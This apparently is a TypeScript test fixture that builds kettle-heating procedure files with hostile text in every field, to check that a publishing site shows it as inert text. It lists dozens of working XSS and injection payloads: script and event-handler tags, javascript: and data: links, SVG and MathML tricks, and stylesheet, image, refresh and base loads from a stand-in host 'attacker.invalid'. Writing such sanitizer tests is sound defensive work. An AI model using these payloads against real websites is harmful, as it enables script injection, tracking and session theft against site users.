// Hostile text for every field of a procedure: if any of it runs or fetches in the published page, the site is unsafe.
import { stringify } from 'yaml';

/** Any request to this host, and any call of alert or the marker, means injected content took effect. */
export const attacker = 'https://attacker.invalid';
const a = attacker;

export const payloads: string[] = [
  // Script elements and their variants
  '<script>alert(1)</script>',
  '<script>window.__swPwned = "script"</script>',
  `<script src="${a}/x.js"></script>`,
  '<scr<script>ipt>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  `<img src="${a}/i.png">`,
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<xss onpointerover=alert(1) style=display:block>hover</xss>',
  '<a href="#" onclick="alert(1)">click</a>',
  '<div onmouseover="alert(1)" style="position:fixed;inset:0">cover</div>',
  // javascript: and other dangerous URLs, in HTML and markdown
  '<a href="javascript:alert(1)">link</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](&#x6A;avascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '[click](<javascript:alert(1)>)',
  'javascript:alert(1)',
  // Markdown images and link tricks
  `![track](${a}/track.png)`,
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](x.png)',
  '[x](x.png "t\\" onmouseover=\\"alert(1)")',
  `[ref link][r1]\n\n[r1]: javascript:alert(1)`,
  `<${a}/autolink>`,
  // SVG tricks
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  `<svg><image href="${a}/svg.png"/></svg>`,
  // MathML tricks
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  // Frames, objects, forms, styles, base, refresh
  `<iframe src="${a}/"></iframe>`,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  `<style>@import '${a}/x.css';</style>`,
  `<div style="background:url(${a}/bg.png)">x</div>`,
  `<link rel=stylesheet href=${a}/x.css>`,
  `<meta http-equiv="refresh" content="0;url=${a}/">`,
  `<base href="${a}/">`,
  `<img srcset="${a}/s.png 1x">`,
  `<picture><source srcset="${a}/p.png"><img alt=""></picture>`,
  `<table background="${a}/t.png"><tr><td>x</td></tr></table>`,
  // HTML comments and CDATA
  '<!--<script>alert(1)</script>-->',
  '<!-- --><script>alert(1)</script><!-- -->',
  '--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  // Unicode direction overrides and invisible characters
  'Open valve \u202Egnp.exe\u202C now',
  '\u2066<script>alert(1)</script>\u2069',
  'Close XV-2101\u200B\u200D\u2060 first',
  // Template and prototype tricks
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '__proto__',
];

/** Text fields of a procedure (names such as tags follow a strict pattern and are tested apart), each fed one payload per procedure (rotating), so every payload meets many fields. */
const fields = ['title', 'owner', 'author', 'change', 'approval-role', 'approval-name', 'approval-meaning', 'ppe',
  'signal-text', 'limit-consequence', 'limit-correction', 'interlock-action', 'hazard', 'hazard-consequence',
  'hazard-avoid', 'step-do', 'step-note', 'step-confirm', 'step-sign-off', 'step-phase', 'param-text', 'second-do', 'mode-text'] as const;

/** Procedure files that pass the check with hostile text in every text field and the whole payload list in the body. */
export function injectionProcedures(count = Math.ceil(payloads.length / fields.length)): Array<{ name: string; text: string }> {
  const out: Array<{ name: string; text: string }> = [];
  for (let k = 0; k < count; k++) {
    const p = (field: (typeof fields)[number]) => payloads[(k * fields.length + fields.indexOf(field)) % payloads.length];
    const data = {
      id: `U2-INJ-${String(k + 1).padStart(3, '0')}`,
      title: `Heat kettle K-210 ${p('title')}`,
      kind: 'normal',
      revision: 1,
      status: 'draft',
      owner: p('owner'),
      author: p('author'),
      change: p('change'),
      approvals: [{ role: p('approval-role'), name: p('approval-name'), date: '2026-11-01', meaning: p('approval-meaning') }],
      equipment: ['K-210'],
      ppe: [p('ppe')],
      signals: {
        'TI-210': { text: p('signal-text'), unit: 'degC', range: [0, 300] },
        mode: { text: `Kettle mode ${p('mode-text')}`, values: ['auto', 'manual'] },
      },
      limits: { 'TI-210': { low: '15 degC', high: '245 degC', consequence: p('limit-consequence'), correction: p('limit-correction') } },
      // Each procedure its own trip: one trip described differently in two procedures is an error of its own.
      interlocks: [{ tag: `TSHH-${210 + k * 10}`, 'trips-when': 'TI-210 >= 255 degC', action: p('interlock-action') }],
      hazards: [{ level: 'warning', hazard: p('hazard'), consequence: p('hazard-consequence'), avoid: p('hazard-avoid'), at: ['heat-up'] }],
      steps: [
        {
          step: 'heat-up', phase: p('step-phase'), do: `Heat K-210 ${p('step-do')}`, set: { 'TI-210': '180 degC' },
          params: { supply: p('param-text') }, until: 'TI-210 >= 180 degC', note: p('step-note'), 'sign-off': p('step-sign-off'),
        },
        { step: 'check', do: `Check the kettle ${p('second-do')}`, confirm: p('step-confirm') },
        {
          choose: [
            { when: 'mode == auto', steps: [{ step: 'hold', do: 'Hold the temperature', until: 'elapsed >= 10 min' }] },
            { when: 'mode == manual', goto: 'heat-up', repeat: { expected: 1, max: 3 } },
          ],
        },
      ],
    };
    const body = ['## Purpose', '', 'Heat the kettle. Every line below is hostile text that must show as text.', '',
      ...payloads.flatMap((text, i) => [`${i + 1}. ${text.replace(/\n/g, ' ')}`]), '', '## Raw', '', ...payloads.map((text) => `${text}\n`)].join('\n');
    out.push({ name: `u2-inj-${String(k + 1).padStart(3, '0')}.md`, text: `---\n${stringify(data, { lineWidth: 0 })}---\n${body}\n` });
  }
  return out;
}
